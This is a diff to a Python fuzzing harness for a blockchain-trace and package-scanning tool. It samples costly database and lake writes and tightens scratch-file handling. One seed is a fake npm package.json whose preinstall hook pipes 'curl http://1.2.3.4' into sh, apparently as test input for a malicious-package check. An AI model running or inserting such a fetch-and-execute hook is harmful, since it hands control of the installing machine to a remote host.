@@ -19,6 +19,7 @@ import shutil
 import tarfile
 import tempfile
 import zipfile
+import zlib
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass
 from pathlib import Path
@@ -39,19 +40,29 @@ class Family:
     variants: tuple[str, ...]  # file names (or keys) the first byte picks from
     seeds: tuple[bytes, ...]  # whole inputs, first byte included
     run: Callable[[str, bytes, Path], Any]  # (variant, body, scratch folder) -> result
+    writes: bool = False  # the run creates files of its own in the folder (swept per input)
+
+
+def tmpfs() -> Path | None:
+    return Path("/dev/shm") if os.path.isdir("/dev/shm") else None
 
 
 class Scratch:
-    """One private folder per process (under ``base``, else tmpfs when there is one),
-    emptied between inputs. libFuzzer ends the process with exit(), past any ``finally``:
-    a fuzzing worker passes a ``base`` it owns and sweeps it at its next start."""
+    """One private folder per process (under ``base``, else tmpfs when there is one).
+    It is emptied between inputs of a family whose run writes files of its own; for the
+    others the input file is written over in place (their parsers are handed that path,
+    never the folder), which saves a listing, an unlink and a create per input. libFuzzer
+    ends the process with exit(), past any ``finally``: a fuzzing worker passes a ``base``
+    it owns and sweeps it at its next start."""
 
     def __init__(self, base: Path | None = None) -> None:
-        where = str(base) if base else "/dev/shm" if os.path.isdir("/dev/shm") else None
-        self.root = Path(tempfile.mkdtemp(prefix="nkfuzz-", dir=where))
+        where = base or tmpfs()
+        self.root = Path(tempfile.mkdtemp(prefix="nkfuzz-", dir=str(where) if where else None))
 
     def fresh(self) -> Path:
         for child in self.root.iterdir():
+            if child.name == KEEP:
+                continue
             if child.is_dir() and not child.is_symlink():
                 shutil.rmtree(child)
             else:
@@ -59,6 +70,9 @@ class Scratch:
         return self.root
 
     def close(self) -> None:
+        store = _STORES.pop(self.root, None)
+        if store is not None:
+            store.close()
         shutil.rmtree(self.root, ignore_errors=True)
 
 
@@ -71,7 +85,7 @@ def split(family: Family, data: bytes) -> tuple[str, bytes]:
 def one_input(family: Family, data: bytes, scratch: Scratch) -> bool:
     """Run one input; True for a result, False for a UserError. Anything else propagates."""
     variant, body = split(family, data)
-    folder = scratch.fresh()
+    folder = scratch.fresh() if family.writes else scratch.root
     try:
         family.run(variant, body, folder)
     except UserError as exc:
@@ -88,7 +102,13 @@ def seed(variant_index: int, text: str) -> bytes:
 
 def _file(folder: Path, name: str, body: bytes) -> Path:
     path = folder / name
-    path.write_bytes(body)
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+    try:
+        view = memoryview(body)
+        while view:
+            view = view[os.write(fd, view) :]
+    finally:
+        os.close(fd)
     return path
 
 
@@ -244,24 +264,64 @@ _BTC_2009 = "tx_hash,block,time,input_addresses,output_addresses,values\n"
 ETL_NAMES = ("transactions.csv", "token_transfers.csv", "logs.csv", "blocks.csv", "traces.csv")
 
 
+# The importers parse and validate every input; the write stage (a DuckDB store, Parquet
+# files and a lake commit: the same work for any valid rows, and 50-200x the parse) runs
+# on one parsed input in WRITE_EVERY, picked by the CRC of its bytes (so a crash input
+# replays the same way), through the command's own entry (``import_files``).
+WRITE_EVERY = 64
+KEEP = ".keep"  # under the scratch root, never swept: the store of the sampled writes
+
+
+def _sampled(body: bytes) -> bool:
+    return zlib.crc32(body) % WRITE_EVERY == 0
+
+
+_STORES: dict[Path, Any] = {}
+
+
+def _store(folder: Path) -> Any:
+    """One store per scratch folder and process, opened once (it keeps what earlier
+    sampled imports added, as a user's store does)."""
+    if folder not in _STORES:
+        from nkwatch.settings import Settings
+        from nkwatch.store import open_store
+
+        keep = folder / KEEP
+        keep.mkdir(exist_ok=True)
+        db = keep / "trace.duckdb"
+        _STORES[folder] = open_store(Settings.from_env({"HOME": str(keep)}, db_path=db))
+    return _STORES[folder]
+
+
 def _run_trace(fmt: str) -> Callable[[str, bytes, Path], Any]:
     def run(variant: str, body: bytes, folder: Path) -> Any:
-        from nkwatch.trace.importers import ImportOptions, get_importer
+        from nkwatch.trace.importers import ImportOptions, get_importer, import_files
 
         path = _file(folder, variant, body)
-        return list(get_importer(fmt).read([path], ImportOptions(from_address=A)))
+        options = ImportOptions(from_address=A)
+        items = list(get_importer(fmt).read([path], options))
+        if items and _sampled(body):
+            return import_files(_store(folder), fmt, [path], options)
+        return items
 
     return run
 
 
 def _run_lake(fmt: str) -> Callable[[str, bytes, Path], Any]:
     def run(variant: str, body: bytes, folder: Path) -> Any:
-        from nkwatch.trace.lake.importer import LakeImportOptions, plan
+        from nkwatch.trace.lake.importer import LakeImportOptions, import_files, plan
         from nkwatch.trace.lake.store import Lake
 
         path = _file(folder, variant, body)
         source, stage = plan(Lake(folder / "lake"), fmt, [path], LakeImportOptions())
-        return [b.rows.num_rows for p in stage for b in source(p)]
+        rows = [b.rows.num_rows for p in stage for b in source(p)]
+        if rows and _sampled(body):  # into an empty lake, dropped after: the next parses
+            lake = folder / KEEP / "lake"  # see the same empty lake as before
+            try:
+                return import_files(Lake(lake), fmt, [path], LakeImportOptions())
+            finally:
+                shutil.rmtree(lake, ignore_errors=True)
+        return rows
 
     return run
 
@@ -430,10 +490,13 @@ def _seeds(variants: Sequence[str], samples: dict[str, str | bytes]) -> tuple[by
 
 
 def _family(
-    name: str, run: Callable[[str, bytes, Path], Any], samples: dict[str, str | bytes]
+    name: str,
+    run: Callable[[str, bytes, Path], Any],
+    samples: dict[str, str | bytes],
+    writes: bool = False,
 ) -> Family:
     variants = tuple(samples)
-    return Family(name, variants, _seeds(variants, samples), run)
+    return Family(name, variants, _seeds(variants, samples), run, writes)
 
 
 FAMILIES: dict[str, Family] = {
@@ -551,6 +614,7 @@ FAMILIES: dict[str, Family] = {
                 "pkg.tgz": _tar_seed(),
                 "package.json": '{"name": "web3-utils-x", "scripts": {"preinstall": "curl http://1.2.3.4 | sh"}, "dependencies": {"axios": "^1"}}',
             },
+            writes=True,  # the archive's spill folder
         ),  # fmt: skip
     )
 }
@@ -569,7 +633,7 @@ def _all() -> Family:
         family, _, inner = variant.partition("/")
         return FAMILIES[family].run(inner, body, folder)
 
-    return Family("all", variants, seeds, run)
+    return Family("all", variants, seeds, run, any(f.writes for f in FAMILIES.values()))
 
 
 FAMILIES["all"] = _all()
